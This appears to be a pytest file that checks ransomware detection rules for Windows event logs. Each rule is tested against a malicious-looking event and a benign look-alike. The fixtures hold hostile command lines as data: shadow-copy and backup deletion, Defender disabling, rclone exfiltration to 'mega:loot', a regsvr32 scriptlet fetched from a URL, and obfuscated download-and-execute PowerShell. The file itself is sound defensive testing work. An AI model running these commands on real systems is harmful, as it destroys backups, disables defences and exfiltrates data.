"""Each ransomware-relevant rule of the built-in pack fires on the event it describes,
and stays quiet on a close benign look-alike."""

from __future__ import annotations

from pathlib import Path
from typing import Any

import pytest
from tests.analyzers.windows_evtx.evtx_helpers import run, write_jsonl
from tests.analyzers.windows_evtx.rule_cases import (
    BITS,
    DEFENDER,
    MSBUILD,
    PS_OP,
    PSH,
    RCM,
    REPL,
    SEC,
    SYS,
    SYSMON,
    WMI,
    Case,
    check_case,
    each_case,
    proc,
    reg,
)

CASES: list[Case] = [
    (
        "Pass-the-hash shaped logon (type 9, seclogo)",
        {
            **SEC,
            "EventID": 4624,
            "LogonType": "9",
            "LogonProcessName": "seclogo",
            "AuthenticationPackageName": "Negotiate",
        },
        {
            **SEC,
            "EventID": 4624,
            "LogonType": "2",
            "LogonProcessName": "User32",
            "AuthenticationPackageName": "Negotiate",
        },
    ),
    (
        "Kerberos service ticket requested with RC4 (Kerberoasting)",
        {
            **SEC,
            "EventID": 4769,
            "TicketEncryptionType": "0x17",
            "Status": "0x0",
            "ServiceName": "svc_sql",
        },
        {
            **SEC,
            "EventID": 4769,
            "TicketEncryptionType": "0x17",
            "Status": "0x0",
            "ServiceName": "FS01$",
        },
    ),
    (
        "Kerberos ticket granted without pre-authentication (AS-REP roasting)",
        {**SEC, "EventID": 4768, "PreAuthType": "0", "Status": "0x0"},
        {**SEC, "EventID": 4768, "PreAuthType": "2", "Status": "0x0"},
    ),
    (
        "Directory replication requested by a non-DC account (DCSync)",
        {
            **SEC,
            "EventID": 4662,
            "AccessMask": "0x100",
            "SubjectUserName": "mallory",
            "Properties": f"%%7688 {REPL} {{19195a5b-6da0-11d0-afd3-00c04fd930c9}}",
        },
        {
            **SEC,
            "EventID": 4662,
            "AccessMask": "0x100",
            "SubjectUserName": "DC02$",
            "Properties": "%%7688 {1131f6ad-9c07-11d1-f79f-00c04fc2dcd2}",
        },
    ),
    (
        "Shadow copies deleted with vssadmin",
        proc("vssadmin.exe Delete Shadows /All /Quiet", "C:\\Windows\\System32\\vssadmin.exe"),
        proc("vssadmin.exe list shadows", "C:\\Windows\\System32\\vssadmin.exe"),
    ),
    (
        "Windows backups deleted with wbadmin",
        proc("wbadmin delete catalog -quiet", "C:\\Windows\\System32\\wbadmin.exe"),
        proc("wbadmin get versions", "C:\\Windows\\System32\\wbadmin.exe"),
    ),
    (
        "Windows recovery disabled with bcdedit",
        proc("bcdedit /set {default} recoveryenabled No", "C:\\Windows\\System32\\bcdedit.exe"),
        proc("bcdedit /enum", "C:\\Windows\\System32\\bcdedit.exe"),
    ),
    (
        "Microsoft Defender weakened with Set-MpPreference / Add-MpPreference",
        proc(
            "powershell Set-MpPreference -DisableRealtimeMonitoring $true",
            PSH,
        ),
        proc(
            "powershell Get-MpPreference",
            PSH,
        ),
    ),
    (
        "Microsoft Defender real-time protection disabled (5001)",
        {**DEFENDER, "EventID": 5001},
        {**DEFENDER, "EventID": 5000},
    ),
    (
        "Member added to a privileged group",
        {
            **SEC,
            "EventID": 4732,
            "TargetUserName": "Administrators",
            "TargetSid": "S-1-5-32-544",
            "MemberSid": "S-1-5-21-1-2-3-1010",
        },
        {
            **SEC,
            "EventID": 4732,
            "TargetUserName": "Print Users",
            "TargetSid": "S-1-5-21-1-2-3-2001",
            "MemberSid": "S-1-5-21-1-2-3-1010",
        },
    ),
    (
        "Group named 'ESX Admins' created or renamed (CVE-2024-37085)",
        {**SEC, "EventID": 4727, "TargetUserName": "ESX Admins"},
        {**SEC, "EventID": 4727, "TargetUserName": "Web Admins"},
    ),
    (
        "Remote management tool installed as a service",
        {
            **SYS,
            "EventID": 7045,
            "ServiceName": "AnyDesk Service",
            "ImagePath": '"C:\\Program Files (x86)\\AnyDesk\\AnyDesk.exe" --service',
        },
        {
            **SYS,
            "EventID": 7045,
            "ServiceName": "Spooler helper",
            "ImagePath": "C:\\Windows\\helper.exe",
        },
    ),
    (
        "AnyDesk installed silently or given an unattended password",
        proc(
            "cmd /c echo pass | C:\\ProgramData\\AnyDesk.exe --set-password",
            "C:\\ProgramData\\AnyDesk.exe",
        ),
        None,
    ),
    (
        "rclone used (cloud copy tool)",
        proc("rc.exe copy \\\\fs01\\share mega:loot --transfers 8", "C:\\Users\\Public\\rc.exe")
        | {"OriginalFileName": "rclone.exe"},
        proc("robocopy \\\\fs01\\share D:\\backup", "C:\\Windows\\System32\\Robocopy.exe"),
    ),
    (
        "restic backup to a remote repository",
        proc(
            "restic.exe -r s3:https://s3.example.net/bucket backup C:\\data",
            "C:\\Tools\\restic.exe",
        ),
        proc("restic.exe -r D:\\repo backup C:\\data", "C:\\Tools\\restic.exe"),
    ),
    (
        "PowerShell started with an encoded command",
        proc(
            "powershell.exe -NoP -enc SQBFAFgA",
            PSH,
        ),
        proc(
            "powershell.exe -File C:\\scripts\\report.ps1",
            PSH,
        ),
    ),
    (
        "Command shell started by WMI (wmiprvse child)",
        proc(
            "cmd.exe /Q /c whoami 1> \\\\127.0.0.1\\ADMIN$\\__1",
            "C:\\Windows\\System32\\cmd.exe",
            "C:\\Windows\\System32\\wbem\\WmiPrvSE.exe",
        ),
        proc("cmd.exe /c dir", "C:\\Windows\\System32\\cmd.exe", "C:\\Windows\\explorer.exe"),
    ),
    (
        "Service installed with a command interpreter or user-writable path",
        {
            **SYS,
            "EventID": 7045,
            "ServiceName": "BTOBTO",
            "ImagePath": "%COMSPEC% /Q /c echo cd ^> \\\\127.0.0.1\\C$\\__output > %TEMP%\\x.bat",
        },
        {
            **SYS,
            "EventID": 7045,
            "ServiceName": "Contoso Agent",
            "ImagePath": '"C:\\Program Files\\Contoso\\agent.exe"',
        },
    ),
    (
        "Scheduled task runs a script host or a user-writable path",
        {
            **SEC,
            "EventID": 4698,
            "TaskName": "\\Updater",
            "TaskContent": "<Exec><Command>powershell.exe</Command></Exec>",
        },
        {
            **SEC,
            "EventID": 4698,
            "TaskName": "\\Contoso",
            "TaskContent": "<Exec><Command>C:\\Program Files\\Contoso\\up.exe</Command></Exec>",
        },
    ),
    (
        "MSBuild run from a scheduled task with an XML project",
        proc(
            MSBUILD + " C:\\Users\\a\\AppData\\x.xml",
            "C:\\Windows\\Microsoft.NET\\Framework\\v4.0.30319\\MSBuild.exe",
            "C:\\Windows\\System32\\svchost.exe",
        ),
        proc(
            "MSBuild.exe app.sln", "C:\\BuildTools\\MSBuild.exe", "C:\\Windows\\System32\\cmd.exe"
        ),
    ),
    (
        "Vulnerable Netlogon secure channel connection (Zerologon)",
        {"Channel": "System", "Provider_Name": "NETLOGON", "EventID": 5829},
        {"Channel": "System", "Provider_Name": "NETLOGON", "EventID": 5719},
    ),
    (
        "Remote Desktop authentication from an internet address (1149)",
        {
            "Channel": "Microsoft-Windows-TerminalServices-RemoteConnectionManager/Operational",
            "EventID": 1149,
            "Param1": "alice",
            "Param2": "EXAMPLE",
            "Param3": "198.51.100.20",
        },
        {
            "Channel": "Microsoft-Windows-TerminalServices-RemoteConnectionManager/Operational",
            "EventID": 1149,
            "Param1": "alice",
            "Param2": "EXAMPLE",
            "Param3": "192.168.1.20",
        },
    ),
    (
        "UAC bypass: per-user shell open command of an auto-elevating program set",
        reg(
            "HKU\\S-1-5-21-1-2-3-1000_Classes\\ms-settings\\shell\\open\\command\\(Default)",
            "C:\\Windows\\system32\\cmd.exe",
        ),
        reg(
            "HKLM\\SOFTWARE\\Classes\\ms-settings\\shell\\open\\command\\(Default)",
            "C:\\Windows\\ImmersiveControlPanel\\SystemSettings.exe",
        ),
    ),
    (
        "UAC bypass: per-user windir or systemroot environment variable overridden",
        reg(
            "HKU\\S-1-5-21-1-2-3-1000\\Environment\\windir", "C:\\Users\\a\\AppData\\Local\\Temp\\x"
        ),
        reg("HKU\\S-1-5-21-1-2-3-1000\\Environment\\TEMP", "C:\\Users\\a\\AppData\\Local\\Temp"),
    ),
    (
        "Process started by the UAC consent program (consent.exe)",
        proc("cmd.exe", "C:\\Windows\\System32\\cmd.exe", "C:\\Windows\\System32\\consent.exe"),
        proc(
            "WerFault.exe -u -p 4740",
            "C:\\Windows\\System32\\WerFault.exe",
            "C:\\Windows\\System32\\consent.exe",
        ),
    ),
    (
        "Accessibility program replaced or spawning a shell (sticky keys backdoor)",
        proc("whoami", "C:\\Windows\\System32\\whoami.exe", "C:\\Windows\\System32\\osk.exe"),
        proc("osk.exe", "C:\\Windows\\System32\\osk.exe", "C:\\Windows\\System32\\utilman.exe"),
    ),
    (
        "Compiled HTML help (hh.exe) started a shell or script host",
        proc("cmd.exe /c calc", "C:\\Windows\\System32\\cmd.exe", "C:\\Windows\\hh.exe"),
        proc("hh.exe help.chm", "C:\\Windows\\hh.exe", "C:\\Windows\\explorer.exe"),
    ),
    (
        "regsvr32 (or a renamed copy) registering a scriptlet from a URL",
        proc(
            "jabber.exe /u /s /i:http://203.0.113.5/a.sct scrobj.dll",
            "C:\\ProgramData\\jabber.exe",
        ),
        proc(
            "regsvr32.exe /s C:\\Program Files\\App\\x.dll", "C:\\Windows\\System32\\regsvr32.exe"
        ),
    ),
    (
        "Service set to run a command interpreter (registry)",
        reg(
            "HKLM\\System\\CurrentControlSet\\Services\\hello\\ImagePath",
            "%COMSPEC% /b /c start /b /min powershell.exe -nop -w hidden",
        ),
        reg(
            "HKLM\\System\\CurrentControlSet\\Services\\Contoso\\ImagePath",
            '"C:\\Program Files\\Contoso\\agent.exe"',
        ),
    ),
    (
        "Signature verification (SIP / trust provider) DLL registered",
        reg(
            "HKLM\\SOFTWARE\\Microsoft\\Cryptography\\OID\\EncodingType 0\\"
            "CryptSIPDllGetSignedDataMsg\\{E59B6E68-3312-4738-961F-DB9405B2DDCB}\\Dll",
            "C:\\Users\\a\\sip.dll",
        ),
        reg(
            "HKLM\\SOFTWARE\\Microsoft\\Cryptography\\OID\\EncodingType 0\\"
            "CryptSIPDllGetSignedDataMsg\\{000C10F1-0000-0000-C000-000000000046}\\Dll",
            "C:\\Windows\\System32\\WINTRUST.DLL",
        ),
    ),
    (
        "WMI filter bound to a script or command-line consumer (5861)",
        {
            **WMI,
            "EventID": 5861,
            "CONSUMER": 'CommandLineEventConsumer="Updater"',
        },
        {
            **WMI,
            "EventID": 5861,
            "CONSUMER": 'NTEventLogEventConsumer="SCM Event Log Consumer"',
        },
    ),
    (
        "Remote Desktop logon arriving from the loopback address (tunnelled RDP)",
        {**RCM, "EventID": 1149, "Param1": "alice", "Param2": "EXAMPLE", "Param3": "127.0.0.1"},
        {**RCM, "EventID": 1149, "Param1": "alice", "Param2": "EXAMPLE", "Param3": "10.0.0.8"},
    ),
    (
        "Remote Desktop session switched with tscon /dest (session hijack)",
        proc("tscon 2 /dest:rdp-tcp#14", "C:\\Windows\\System32\\tscon.exe"),
        proc("tscon 2", "C:\\Windows\\System32\\tscon.exe"),
    ),
    (
        "BITS transfer job created by bitsadmin or an unexpected program",
        {**BITS, "EventID": 3, "processPath": "C:\\Windows\\System32\\bitsadmin.exe"},
        {**BITS, "EventID": 3, "processPath": "C:\\Windows\\System32\\svchost.exe"},
    ),
    (
        "DLL known from side-loading loaded outside its product folder",
        {
            **SYSMON,
            "EventID": 7,
            "Image": "C:\\ProgramData\\Intel\\CV.exe",
            "ImageLoaded": "C:\\ProgramData\\Intel\\wwlib.dll",
        },
        {
            **SYSMON,
            "EventID": 7,
            "Image": "C:\\Program Files\\Microsoft Office\\root\\Office16\\WINWORD.EXE",
            "ImageLoaded": "C:\\Program Files\\Microsoft Office\\root\\Office16\\wwlib.dll",
        },
    ),
    (
        "hosts file read over an administrative share",
        {
            **SEC,
            "EventID": 5145,
            "ShareName": "\\\\*\\C$",
            "RelativeTargetName": "Windows\\System32\\drivers\\etc\\hosts",
        },
        {
            **SEC,
            "EventID": 5145,
            "ShareName": "\\\\*\\C$",
            "RelativeTargetName": "Users\\Public\\report.docx",
        },
    ),
    (
        "Obfuscated PowerShell script block (Invoke-Obfuscation style)",
        {**PS_OP, "EventID": 4104, "ScriptBlockText": "$a = 1\n& (I`nv`oke-Ex`pression) $payload"},
        {**PS_OP, "EventID": 4104, "ScriptBlockText": 'Write-Host "done`n"; Get-Item `\n  C:\\x'},
    ),
    (
        "Obfuscated PowerShell script block (Invoke-Obfuscation style)",
        {**PS_OP, "EventID": 4104, "ScriptBlockText": "$s = 'xepnoi'; & ($s[1,3,5] -join '')"},
        {**PS_OP, "EventID": 4104, "ScriptBlockText": "$list[1] -join ','"},
    ),
    (
        "Obfuscated PowerShell pipeline in the classic PowerShell log (800)",
        {
            "Channel": "Windows PowerShell",
            "EventID": 800,
            "Data": ["", "DetailSequence=1", "CommandLine=i`e`x (New-Object Net.WebClient)"],
        },
        {
            "Channel": "Windows PowerShell",
            "EventID": 800,
            "Data": ["", "DetailSequence=1", "CommandLine=Write-Host `n"],
        },
    ),
]


@each_case(CASES)
def test_rule_fires_on_its_event_and_not_on_the_look_alike(
    tmp_path: Path, title: str, event: dict[str, Any], benign: dict[str, Any] | None
) -> None:
    check_case(tmp_path, title, event, benign)


def test_enumeration_pipes_from_one_client_correlate(tmp_path: Path) -> None:
    title = "Domain enumeration: several RPC enumeration pipes opened by one client"

    def pipe(name: str, second: int) -> dict[str, Any]:
        return {
            **SEC,
            "Computer": "DC01",
            "EventRecordID": second,
            "TimeCreated": f"2024-04-12T00:00:{second:02d}Z",
            "EventID": 5145,
            "ShareName": "\\\\*\\IPC$",
            "RelativeTargetName": name,
            "SubjectUserName": "user01",
            "IpAddress": "10.0.2.17",
        }

    three = [pipe("samr", 1), pipe("lsarpc", 2), pipe("srvsvc", 3)]
    assert title in run(write_jsonl(tmp_path / "hit.jsonl", three)).titles()
    two = [pipe("samr", 1), pipe("lsarpc", 2), pipe("samr", 3)]
    assert title not in run(write_jsonl(tmp_path / "quiet.jsonl", two)).titles()


def sql_server_option(option: str, old: str, new: str) -> dict[str, Any]:
    """Event 15457 as the ``evtx`` package writes it: the classic event's values are
    unnamed ``Data`` elements (option, old value, new value)."""
    return {
        "Event": {
            "System": {
                "Provider": {"#attributes": {"Name": "MSSQL$SQLEXPRESS"}},
                "EventID": {"#attributes": {"Qualifiers": 16384}, "#text": 15457},
                "TimeCreated": {"#attributes": {"SystemTime": "2024-04-12T00:00:00.000000Z"}},
                "EventRecordID": 7,
                "Channel": "Application",
                "Computer": "DB01",
            },
            "EventData": {"Data": {"#text": [option, old, new]}, "Binary": "61420000"},
        }
    }


@pytest.mark.parametrize("option", ["xp_cmdshell", "clr enabled", "Ole Automation Procedures"])
def test_sql_server_command_options_turned_on_are_found(tmp_path: Path, option: str) -> None:
    title = "SQL Server option that runs commands changed (xp_cmdshell, CLR, OLE Automation)"
    hit = run(write_jsonl(tmp_path / "hit.jsonl", [sql_server_option(option, "0", "1")]))
    [finding] = [f for f in hit.findings if f.title == title]
    assert finding.severity == "high" and "T1505.001" in finding.attack
    assert finding.host == "DB01"
    other = sql_server_option("show advanced options", "0", "1")
    assert title not in run(write_jsonl(tmp_path / "quiet.jsonl", [other])).titles()


def test_sql_server_command_option_found_in_a_japanese_event_viewer_export(tmp_path: Path) -> None:
    """An Application log saved as CSV in a Japanese locale has the option only in the
    message text; the rule reads it there."""
    title = "SQL Server option that runs commands changed (xp_cmdshell, CLR, OLE Automation)"

    def export(option: str) -> Path:
        message = (
            f"構成オプション '{option}' が 0 から 1 に変更されました。"
            "インストールするには RECONFIGURE ステートメントを実行してください。"
        )
        text = (
            "レベル,日付と時刻,ソース,イベント ID,タスクのカテゴリ\r\n"
            f'情報,2024/04/12 9:13:42,MSSQLSERVER,15457,サーバー,"{message}"\r\n'
        )
        path = tmp_path / f"application-{option.replace(' ', '-')}.csv"
        path.write_bytes(text.encode("cp932"))
        return path

    assert title in run(export("xp_cmdshell")).titles()
    assert title not in run(export("show advanced options")).titles()
